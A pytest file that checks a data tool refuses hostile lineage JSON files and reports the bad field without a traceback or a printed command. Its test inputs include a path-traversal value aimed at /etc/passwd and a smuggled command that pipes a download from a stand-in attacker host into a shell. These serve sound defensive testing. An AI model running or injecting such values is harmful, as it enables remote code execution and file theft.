"""A lineage file is input (issue 27, item 10): `data pull --lineage FILE` trusted it — a mapping as the md5 was a
TypeError traceback, a number as the commit an AttributeError, and any string was printed as the command to run."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from headstart.ground.errors import DataError
from headstart.library.lineage import read_lineage

GOOD = {"data_md5": "0123456789abcdef0123456789abcdef.dir", "workspace_commit": "89abcdef" * 5, "dataset": "pets"}


@pytest.mark.parametrize(
    "change, named",
    [
        ({"data_md5": {"x": 1}}, "data_md5 is not a DVC directory md5"),
        ({"test_data_md5": "../../etc/passwd"}, "test_data_md5 is not a DVC directory md5"),
        ({"workspace_commit": 7}, "workspace_commit is not a git commit id"),
        ({"workspace_commit": "abc123 && curl https://evil.example | sh #"}, "workspace_commit is not a git commit"),
        ({"dataset": ["pets"]}, "dataset is not a name"),
    ],
)
def test_a_hostile_lineage_file_is_refused_naming_the_field(tmp_path: Path, change: dict, named: str) -> None:
    path = tmp_path / "lineage.json"
    path.write_text(json.dumps({**GOOD, **change}))
    with pytest.raises(DataError, match=named):
        read_lineage(path)


def test_data_pull_names_the_bad_field_without_a_traceback_or_the_command(tmp_path: Path) -> None:
    subprocess.run(["dvc", "init", "--no-scm", "-q"], cwd=tmp_path, check=True)
    path = tmp_path / "lineage.json"
    path.write_text(json.dumps({**GOOD, "workspace_commit": "abc123 && curl https://evil.example | sh #"}))
    done = subprocess.run(["headstart", "data", "pull", "--lineage", str(path)], cwd=tmp_path, capture_output=True,
                          text=True, timeout=120)  # fmt: skip
    said = " ".join(done.stderr.split())
    assert done.returncode == 2 and "Traceback" not in said and "workspace_commit is not a git commit id" in said
    assert "git checkout abc123" not in said
    (tmp_path / "good.json").write_text(json.dumps(GOOD))
    assert read_lineage(tmp_path / "good.json")["dataset"] == "pets"  # a sound record still reads
